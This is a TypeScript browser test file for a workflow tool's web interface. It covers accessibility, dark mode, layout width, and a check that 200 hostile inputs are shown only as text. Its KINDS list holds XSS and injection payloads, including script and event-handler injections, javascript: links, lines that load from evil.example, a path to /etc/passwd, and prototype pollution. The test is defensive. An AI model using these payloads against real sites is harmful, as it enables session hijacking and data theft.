import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';

import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { Folder } from '../../../cli/tests/pawl.fixture.ts';
import { Looking, NAME } from './browser.fixture.ts';
import { CHROMIUM } from './chromium.fixture.ts';

/* The page, in a real browser, over a real journal. */

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core'), 'utf8');

const REVIEW = `
import { defineTask, type Context } from '@pawl/sdk';
const draft = defineTask({ name: 'draft', run: (n: number) => 'draft ' + n });
// As zod and others give it: a field of each kind.
const properties = {
  street: { type: 'string', minLength: 1, description: 'As on the letter box' },
  zip: { type: 'integer' },
  kind: { enum: ['home', 'office'] },
  express: { type: 'boolean' },
  notes: { type: 'array', items: { type: 'string' } },
};
const address = { '~standard': {
  version: 1,
  vendor: 'test',
  validate: (value: unknown) => ({ value }),
  jsonSchema: { input: () => ({ type: 'object', required: ['street'], properties }) },
} };
export async function process(_: unknown, ctx: Context) {
  await ctx.parallel.map([1, 2, 3], (n) => ctx.task(draft, n));
  await ctx.parallel.all([
    () => ctx.breakpoint({ title: 'Publish?', question: 'May it go out?' }),
    () => ctx.receive('address', { schema: address as never, prompt: 'Where to?' }),
  ]);
}
`;

const FAILS = `
import type { Context } from '@pawl/sdk';
export async function process(_: unknown, ctx: Context) { throw new RangeError('no'); }
`;

/** Texts that would be more than text in some page, for every place that a user's text reaches. */
const KINDS: readonly ((n: number) => string)[] = [
  (n) => `<script>document.title='owned ${n}'</script>`,
  (n) => `<img src=x onerror="document.title='owned ${n}'">`,
  (n) => `"><svg onload=document.title='owned'>${n}`,
  (n) => `javascript:document.title='owned ${n}'`,
  (n) => `\u202E\u0000</title></textarea><iframe srcdoc="<script>top.document.title='owned'</script>">${n}`,
  (n) => `' onmouseover='document.title=${n}`,
  (n) => `<a href="javascript:top.document.title='owned'">${n}</a>`,
  (n) => `<style>@import 'http://evil.example/${n}'</style>`,
  (n) => `</script><script src=//evil.example/${n}></script>`,
  (n) => `{{constructor.constructor('document.title=${n}')()}}`,
  (n) => `<math><mtext><mglyph><style><img src=x onerror=document.title='owned'>${n}`,
  (n) => `<details open ontoggle=document.title='owned'>${n}`,
  (n) => `<base href="http://evil.example/${n}/">`,
  (n) => `<meta http-equiv=refresh content="0;url=http://evil.example/${n}">`,
  (n) => `<form action=//evil.example><button autofocus>${n}`,
  (n) => `\uD800\u2028\u2029${n}<!--`,
  (n) => `../../etc/passwd?${n}#"><object data=x>`,
  (n) => `__proto__${n}`,
  (n) => `data:text/html,<script>alert(${n})</script>`,
  (n) => `\${document.title='owned'}\`${n}`,
];
const HOSTILE = Array.from({ length: 200 }, (_, n) => (KINDS[n % KINDS.length] ?? String)(n));

const EVIL = `
import { defineTask, type Context } from '@pawl/sdk';
import { readFileSync } from 'node:fs';
const texts: string[] = JSON.parse(readFileSync('hostile.json', 'utf8'));
const tasks = texts.map((name, n) => defineTask({
  name,
  run: () => {
    if (n < 40) throw Object.assign(new RangeError(name), { [name]: name });
    return { [name]: name };
  },
}));
export async function process(inputs: unknown, ctx: Context) {
  await ctx.parallel.map(texts.map((_, n) => n), (n) => ctx.task(tasks[n]!, { [texts[n]!]: texts[n] }).catch(() => n));
  for (const [n, text] of texts.slice(0, 40).entries()) ctx.setState('evil' + n, { [text]: text });
  await ctx.breakpoint({ title: texts[1]!, question: texts[2]!, options: texts.slice(3, 60), tags: texts.slice(60, 70), context: texts });
}
`;

/** A path, and what is there once it is drawn. */
const VIEWS: readonly (readonly [path: string, drawn: string])[] = [
  ['/', '.run-row'],
  ['/waiting', '.ask'],
  ['/runs/evil', '.call'],
  ['/runs/evil?tab=values', '.value'],
  ['/runs/evil?tab=events', '.event'],
];

/** The same of a run that is no burden. */
const PLAIN_VIEWS: typeof VIEWS = [
  ['/', '.run-row'],
  ['/waiting', '.ask'],
  ['/runs/r1?call=0', '.panel .facts'],
  ['/runs/r1?tab=values', '.value'],
  ['/runs/r1?tab=events', '.event'],
  ['/runs/f1', '.failure'],
  ['/queue', 'h1'],
];

describe.skipIf(CHROMIUM === undefined)(`the page, ${NAME}`, () => {
  const folder = new Folder();
  let looking: Looking;

  beforeAll(async () => {
    folder.write('review.ts', REVIEW);
    folder.write('evil.ts', EVIL);
    folder.write('fails.ts', FAILS);
    folder.write('hostile.json', JSON.stringify(HOSTILE));
    const evil = ['run', 'evil.ts', '--id', 'evil', '--input', JSON.stringify({ all: HOSTILE })];
    await Promise.all([
      folder.pawl('run', 'review.ts', '--id', 'r1'),
      folder.pawl(...evil),
      folder.pawl('run', 'fails.ts', '--id', 'f1'),
    ]);
    looking = await Looking.at(folder);
  });

  afterAll(async () => {
    await looking?.close();
    folder[Symbol.dispose]();
  });

  /** Within the page, as a link does it: no view is loaded from the beginning. */
  async function go(page: Page, [path, drawn]: readonly [path: string, drawn: string]): Promise<void> {
    await page.evaluate((to) => {
      history.pushState(null, '', to);
      dispatchEvent(new PopStateEvent('popstate'));
    }, path);
    await page.locator(drawn).first().waitFor();
  }

  /** @param rules undefined: all of them */
  async function problems(page: Page, rules: readonly string[] | undefined): Promise<string[]> {
    return await page.evaluate(async (only) => {
      interface Violation {
        readonly id: string;
        readonly nodes: readonly { readonly html: string }[];
      }
      const chosen = only === undefined ? {} : { runOnly: { type: 'rule', values: only } };
      const options = { resultTypes: ['violations'], preload: false, ...chosen };
      const { axe } = globalThis as unknown as {
        axe: { run(where: unknown, how: unknown): Promise<{ violations: Violation[] }> };
      };
      const { violations } = await axe.run(document, options);
      return violations.map(
        ({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' ')}`,
      );
    }, rules);
  }

  // What does not depend on colours is looked at once.
  test.each([
    ['light', undefined],
    ['dark', ['color-contrast']],
  ] as const)('every view is free of what axe finds, in %s', async (colorScheme, rules) => {
    await using page = await looking.visit('/', { colorScheme, viewport: { width: 1280, height: 800 } });
    // The policy lets in no script of others: it is brought by the debugger, as a person's own tools would be.
    await page.evaluate(AXE);
    for (const view of PLAIN_VIEWS) {
      await go(page, view);
      expect([view[0], await problems(page, rules)]).toEqual([view[0], []]);
    }
    await go(page, ['/', '.run-row']);
    await page.getByLabel('Choose r1').click();
    await page.getByRole('button', { name: /^Cancel/ }).click();
    await page.getByRole('dialog').waitFor();
    expect(['dialog', await problems(page, rules)]).toEqual(['dialog', []]);
  });

  test('a switch turns light into dark, and the choice stays', async () => {
    await using page = await looking.visit('/', { colorScheme: 'light' });
    const ground = (): Promise<string> => page.evaluate('getComputedStyle(document.body).backgroundColor');
    const light = await ground();
    await page.keyboard.press('t');
    const dark = await ground();
    expect(dark).not.toBe(light);
    await page.reload();
    expect(await ground()).toBe(dark);
  });

  test('nothing is wider than a telephone', async () => {
    await using page = await looking.visit('/', { viewport: { width: 380, height: 760 } });
    for (const view of VIEWS) {
      await go(page, view);
      expect([view[0], await page.evaluate('document.documentElement.scrollWidth')]).toEqual([view[0], 380]);
    }
  });

  test('of 200 hostile texts in every field none is more than text', async () => {
    await using page = await looking.visit('/runs/evil');
    const requests: string[] = [];
    page.on('request', (request) => requests.push(new URL(request.url()).origin));
    for (const view of [...VIEWS, ['/runs/evil?call=0/7/0&all=1', '.panel .value'] as const]) {
      await go(page, view);
      const more = page.getByRole('button', { name: /^… .* more$|^Show all/ });
      for (let n = await more.count(); n > 0; n -= 1) await more.first().click();
      await page.evaluate(`document.querySelectorAll('details').forEach((each) => (each.open = true))`);
      // What is in an event is drawn when it is opened.
      await expect.poll(() => page.locator('.event:not(:has(.value))').count(), { timeout: 20_000 }).toBe(0);
      expect(await page.evaluate('document.title')).toBe('Pawl');
      // The page's own: one script, and no picture or frame.
      const found = `document.querySelectorAll('script:not([src^="/assets/"]), img, iframe, object, base, style, [onload], [onerror], [onmouseover], [ontoggle], meta[http-equiv]').length`;
      expect([view[0], await page.evaluate(found)]).toEqual([view[0], 0]);
      expect(
        await page.evaluate(`[...document.querySelectorAll('a')].every((a) => a.protocol === 'http:')`),
      ).toBe(true);
    }
    await go(page, ['/runs/evil?tab=values', '.value']);
    expect(await page.locator('body').innerText()).toContain('<script>');
    expect(new Set(requests)).toEqual(new Set([new URL(looking.ui.url).origin]));
  });
});
